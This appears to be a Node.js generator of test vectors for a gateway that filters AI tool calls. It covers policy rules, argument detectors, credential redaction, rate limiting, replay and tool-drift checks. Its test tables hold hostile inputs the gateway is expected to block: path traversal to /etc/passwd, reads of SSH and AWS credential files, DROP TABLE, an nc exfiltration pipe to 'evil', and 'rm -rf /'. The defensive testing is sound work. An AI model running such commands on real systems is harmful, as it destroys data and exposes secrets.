#!/usr/bin/env node
// Writes the decision vectors (test/vectors/*.json) from the compact tables below. The JSON files are the
// contract and are committed; re-run `node test/vectors/generate.mjs` after editing a table and review the diff.
// Each file is one policy group: the policy and flags both runtimes start with, and vectors run in order
// (order matters for rate limits). A vector: a tools/call message and the expected outcome on the wire —
// decision (allow | warn | deny), reason_code when denied, the redactions in the answer (detector kinds, one per
// redacted value, sorted). `warn` is allowed on the wire and must leave a `tool_call.warned` audit record.
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const here = path.dirname(fileURLToPath(import.meta.url));
const call = (name, args) => ({ method: 'tools/call', params: { name, arguments: args } });
const allow = { decision: 'allow', reason_code: null, redactions: [] };
const warn = { decision: 'warn', reason_code: null, redactions: [] };
const deny = (reason_code) => ({ decision: 'deny', reason_code, redactions: [] });
const TRACEPARENT = '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01';

const BENIGN = [
  { text: 'hello' },
  { text: 'hello world' },
  { path: '/tmp/a.txt' },
  { path: '/home/user/notes.md' },
  { n: 1 },
  { list: [1, 2, 3] },
  { nested: { deep: { value: 'x' } } },
  { text: 'ünïcødé ✓' },
  { url: 'https://example.com/page' },
  { query: 'select * from users where id = 1' },
  { empty: '' },
  { flag: true },
  { text: 'a'.repeat(500) },
  { path: 'relative/file.txt' },
  { items: [{ a: 1 }, { b: 2 }] },
];
const HIGH = [
  [{ path: '../../etc/passwd' }, 'path_traversal'],
  [{ file: '../../../root/.bashrc' }, 'path_traversal'],
  [{ path: '/home/u/.ssh/id_rsa' }, 'secret_path'],
  [{ file: '~/.aws/credentials' }, 'secret_path'],
  [{ path: '/home/u/.netrc' }, 'secret_path'],
  [{ sql: 'DROP TABLE users' }, 'destructive_sql'],
  [{ query: 'delete from users' }, 'destructive_sql'],
  [{ sql: 'TRUNCATE TABLE audit' }, 'destructive_sql'],
  [{ cmd: 'cat x | nc evil 1234' }, 'exfiltration'],
  [{ directory: '../../../../var/lib' }, 'path_traversal'],
];
const MEDIUM = [
  { command: 'ls; rm -rf /' },
  { command: 'echo $(whoami)' },
  { command: 'a && b' },
  { command: 'ls `pwd`' },
  { command: 'x | y' },
];
const SECRETS = [
  ['aws', ['aws_access_key_id']],
  ['github', ['github_token']],
  ['slack', ['slack_token']],
  ['stripe', ['stripe_key']],
  ['postgres', ['connection_string']],
  ['jwt', ['jwt']],
  ['gitlab', ['gitlab_token']],
  ['npm', ['npm_token']],
  ['two', ['aws_access_key_id', 'gitlab_token']],
];

const groups = [];
const group = (name, description, policy, flags, vectors) =>
  groups.push({
    group: name,
    description,
    policy,
    proxy_flags: flags.proxy ?? [],
    gateway_flags: flags.gateway ?? [],
    ...(flags.surfaces ? { surfaces: flags.surfaces, gap: flags.gap } : {}),
    vectors: vectors.map((v, i) => ({ id: `${name}-${String(i + 1).padStart(3, '0')}`, ...v })),
  });

// Policy: allow, deny (tool, argument condition, secret paths), warn and audit-mode, then argument detectors.
const POLICY = {
  version: 1,
  default_effect: 'allow',
  rules: [
    { id: 'no-shell', effect: 'deny', tools: ['run_command'] },
    {
      id: 'no-etc',
      effect: 'deny',
      tools: ['read_file', 'write_file'],
      arguments: [{ path: '$.path', op: 'regex', value: '/^[/]etc[/]/' }],
    },
    { id: 'no-secrets', effect: 'deny', tools: ['read_file', 'write_file'], secret_paths: true },
    { id: 'watch-search', effect: 'warn', tools: ['search'] },
    { id: 'trial-fetch-block', effect: 'deny', mode: 'audit', tools: ['fetch'] },
  ],
};
group('policy', 'allow, deny, warn, audit-mode rules and argument detectors (block)', POLICY, {}, [
  ...BENIGN.map((a) => ({ step: 'policy.allow', message: call('echo', a), expect: allow })),
  ...BENIGN.slice(0, 10).map((a) => ({
    step: 'policy.deny',
    message: call('run_command', a),
    expect: deny('policy_denied'),
  })),
  ...['/etc/passwd', '/etc/shadow', '/etc/hosts', '/etc/ssl/private/key.pem', '/etc/x'].flatMap((p) => [
    { step: 'policy.deny', message: call('read_file', { path: p }), expect: deny('policy_denied') },
    {
      step: 'policy.deny',
      message: call('write_file', { path: p, content: 'x' }),
      expect: deny('policy_denied'),
    },
  ]),
  ...['/home/u/.ssh/id_ed25519', '/root/.aws/credentials', '/home/u/.kube/config'].map((p) => ({
    step: 'policy.deny',
    message: call('read_file', { path: p }),
    expect: deny('policy_denied'),
  })),
  ...['/tmp/x', '/home/u/readme.md', '/var/log/app.log', '/srv/data.csv'].map((p) => ({
    step: 'policy.allow',
    message: call('read_file', { path: p }),
    expect: allow,
  })),
  ...BENIGN.map((a) => ({ step: 'policy.warn', message: call('search', a), expect: warn })),
  ...BENIGN.map((a) => ({
    step: 'policy.audit_mode',
    message: call('fetch', a),
    expect: allow,
  })),
  ...HIGH.map(([a]) => ({
    step: 'detectors.block',
    message: call('echo', a),
    expect: deny('arguments_blocked'),
  })),
  ...MEDIUM.map((a) => ({ step: 'detectors.warn', message: call('echo', a), expect: warn })),
]);

group(
  'default-deny',
  'default_effect deny with one allow rule',
  { version: 1, default_effect: 'deny', rules: [{ id: 'only-echo', effect: 'allow', tools: ['echo'] }] },
  {},
  [
    ...BENIGN.slice(0, 8).map((a) => ({ step: 'policy.allow', message: call('echo', a), expect: allow })),
    ...['read_file', 'write_file', 'run_command', 'search', 'fetch', 'query', 'leak', 'unknown_tool'].map(
      (t) => ({
        step: 'policy.deny',
        message: call(t, { text: 'x' }),
        expect: deny('policy_denied'),
      }),
    ),
  ],
);

group(
  'detectors-warn',
  'argument detectors in warn mode: findings are flagged, never blocked',
  null,
  {
    proxy: ['--argument-detectors', 'warn'],
    gateway: ['--argument-detectors', 'warn'],
  },
  [
    ...HIGH.map(([a]) => ({ step: 'detectors.warn', message: call('echo', a), expect: warn })),
    ...MEDIUM.map((a) => ({ step: 'detectors.warn', message: call('echo', a), expect: warn })),
    ...BENIGN.slice(0, 5).map((a) => ({ step: 'detectors.allow', message: call('echo', a), expect: allow })),
  ],
);

group(
  'detectors-off',
  'argument detectors off',
  null,
  {
    proxy: ['--argument-detectors', 'off'],
    gateway: ['--argument-detectors', 'off'],
  },
  [
    ...HIGH.map(([a]) => ({ step: 'detectors.off', message: call('echo', a), expect: allow })),
    ...MEDIUM.map((a) => ({ step: 'detectors.off', message: call('echo', a), expect: allow })),
  ],
);

group(
  'redact',
  'response scanning with redaction (--detect-credentials)',
  null,
  {
    proxy: ['--detect-credentials'],
    gateway: ['--detect-credentials'],
  },
  [
    ...SECRETS.map(([kind, redactions]) => ({
      step: 'response.redact',
      message: call('leak', { kind }),
      expect: { decision: 'allow', reason_code: null, redactions: [...redactions].sort() },
    })),
    { step: 'response.clean', message: call('leak', { kind: 'none' }), expect: allow },
    ...BENIGN.slice(0, 5).map((a) => ({ step: 'response.clean', message: call('echo', a), expect: allow })),
    ...HIGH.slice(0, 3).map(([a]) => ({
      step: 'detectors.block',
      message: call('echo', a),
      expect: deny('arguments_blocked'),
    })),
  ],
);

group(
  'block-response',
  'response scanning that withholds answers (--credential-action block)',
  null,
  {
    proxy: ['--detect-credentials', '--credential-action', 'block'],
    gateway: ['--detect-credentials', '--credential-action', 'block'],
  },
  [
    ...SECRETS.map(([kind]) => ({
      step: 'response.block',
      message: call('leak', { kind }),
      expect: deny('response_blocked'),
    })),
    { step: 'response.clean', message: call('leak', { kind: 'none' }), expect: allow },
    ...BENIGN.slice(0, 4).map((a) => ({ step: 'response.clean', message: call('echo', a), expect: allow })),
  ],
);

group('no-scan', 'without --detect-credentials (and no secret-path rule) answers pass untouched', null, {}, [
  ...SECRETS.slice(0, 5).map(([kind]) => ({
    step: 'response.off',
    message: call('leak', { kind }),
    expect: allow,
  })),
]);

// The rate limit is checked before policy (#16: shape, identity, rate limit, policy, detectors, …): a call the
// policy denies still spends the limit, so the fourth call of a denied tool is rate_limited, not policy_denied.
group(
  'rate',
  'per-tool rate limit of 3 calls a minute (proxy --rate-limit 3, gateway --rate-limit-per-tool 3/min), checked before policy',
  {
    version: 1,
    default_effect: 'allow',
    rules: [{ id: 'no-shell', effect: 'deny', tools: ['run_command'] }],
  },
  {
    proxy: ['--rate-limit', '3'],
    gateway: ['--rate-limit-per-tool', '3/min'],
  },
  [
    ...['echo', 'search', 'fetch', 'query', 'read_file'].flatMap((tool) => [
      ...[1, 2, 3].map((n) => ({ step: 'rate.allow', message: call(tool, { n }), expect: allow })),
      { step: 'rate.limit', message: call(tool, { n: 4 }), expect: deny('rate_limited') },
    ]),
    ...[1, 2, 3].map((n) => ({
      step: 'rate.before_policy',
      message: call('run_command', { n }),
      expect: deny('policy_denied'),
    })),
    { step: 'rate.before_policy', message: call('run_command', { n: 4 }), expect: deny('rate_limited') },
  ],
);

group('shape', 'tools/call shape: name a string, arguments an object', null, {}, [
  {
    step: 'shape',
    message: { method: 'tools/call', params: { name: 42, arguments: {} } },
    expect: deny('invalid_params'),
  },
  {
    step: 'shape',
    message: { method: 'tools/call', params: { arguments: {} } },
    expect: deny('invalid_params'),
  },
  {
    step: 'shape',
    message: { method: 'tools/call', params: { name: 'echo', arguments: [1] } },
    expect: deny('invalid_params'),
  },
  {
    step: 'shape',
    message: { method: 'tools/call', params: { name: 'echo', arguments: 'x' } },
    expect: deny('invalid_params'),
  },
  {
    step: 'shape',
    message: { method: 'tools/call', params: { name: null } },
    expect: deny('invalid_params'),
  },
  { step: 'shape', message: { method: 'tools/call', params: { name: 'echo' } }, expect: allow },
]);

group(
  'session',
  'replay (same id and payload inside the window) and undeclared tools (--block-undeclared), in one client session',
  null,
  {
    proxy: ['--block-undeclared'],
    gateway: ['--block-undeclared'],
  },
  [
    { step: 'undeclared.allow', message: call('echo', { text: 'declared' }), expect: allow },
    ...['nope', 'shell', 'exfiltrate', 'ECHO', 'echo ', 'read-file'].map((t) => ({
      step: 'undeclared.deny',
      message: call(t, { text: 'x' }),
      expect: deny('undeclared_tool'),
    })),
    ...[1, 2, 3].flatMap((n) => [
      { step: 'replay.first', request_id: `replay-${n}`, message: call('echo', { n }), expect: allow },
      {
        step: 'replay.again',
        request_id: `replay-${n}`,
        message: call('echo', { n }),
        expect: deny('replay'),
      },
    ]),
    // The same id with another payload is a new call; a fresh _meta does not make a replay new.
    { step: 'replay.other_payload', request_id: 'replay-1', message: call('echo', { n: 99 }), expect: allow },
    {
      step: 'replay.again',
      request_id: 'replay-2',
      message: {
        method: 'tools/call',
        params: { name: 'echo', arguments: { n: 2 }, _meta: { traceparent: TRACEPARENT } },
      },
      expect: deny('replay'),
    },
    // Listing and pinging are never remembered: the same id again is not a replay.
    {
      step: 'replay.exempt',
      request_id: 'list-1',
      message: { method: 'tools/list', params: {} },
      expect: allow,
    },
    {
      step: 'replay.exempt',
      request_id: 'list-1',
      message: { method: 'tools/list', params: {} },
      expect: allow,
    },
    { step: 'replay.exempt', request_id: 'ping-1', message: { method: 'ping', params: {} }, expect: allow },
    { step: 'replay.exempt', request_id: 'ping-1', message: { method: 'ping', params: {} }, expect: allow },
    // A refused call is not remembered either: sent again, it is refused for what it is, not as a replay.
    {
      step: 'undeclared.deny',
      request_id: 'undeclared-1',
      message: call('nope', {}),
      expect: deny('undeclared_tool'),
    },
    {
      step: 'undeclared.deny',
      request_id: 'undeclared-1',
      message: call('nope', {}),
      expect: deny('undeclared_tool'),
    },
  ],
);

group(
  'drift',
  'tool drift (--block-drift with --block-undeclared): tools changed or added after the first tools/list are refused',
  null,
  {
    proxy: ['--block-undeclared', '--block-drift'],
    gateway: ['--block-undeclared', '--block-drift'],
  },
  [
    { step: 'undeclared.allow', message: call('echo', { text: 'first' }), expect: allow },
    { step: 'drift.allow', message: call('fetch', { url: 'https://example.com' }), expect: allow },
    { step: 'undeclared.deny', message: call('fresh', {}), expect: deny('undeclared_tool') },
    { step: 'drift.shift', message: call('shift_tools', {}), expect: allow },
    // Not listed again yet: nothing is known to have drifted.
    { step: 'drift.unseen', message: call('fetch', { url: 'https://example.com' }), expect: allow },
    { step: 'undeclared.deny', message: call('fresh', {}), expect: deny('undeclared_tool') },
    { step: 'drift.list', message: { method: 'tools/list', params: {} }, expect: allow },
    {
      step: 'drift.changed',
      message: call('fetch', { url: 'https://example.com' }),
      expect: deny('tool_drift'),
    },
    { step: 'drift.added', message: call('fresh', {}), expect: deny('tool_drift') },
    { step: 'drift.unchanged', message: call('echo', { text: 'still fine' }), expect: allow },
    { step: 'drift.unchanged', message: call('read_file', { path: '/tmp/a.txt' }), expect: allow },
    { step: 'undeclared.deny', message: call('nope', {}), expect: deny('undeclared_tool') },
  ],
);

fs.rmSync(path.join(here, 'groups'), { recursive: true, force: true });
fs.mkdirSync(path.join(here, 'groups'));
let total = 0;
for (const g of groups) {
  total += g.vectors.length;
  fs.writeFileSync(path.join(here, 'groups', `${g.group}.json`), `${JSON.stringify(g, null, 2)}\n`);
}
process.stdout.write(`${groups.length} groups, ${total} vectors\n`);
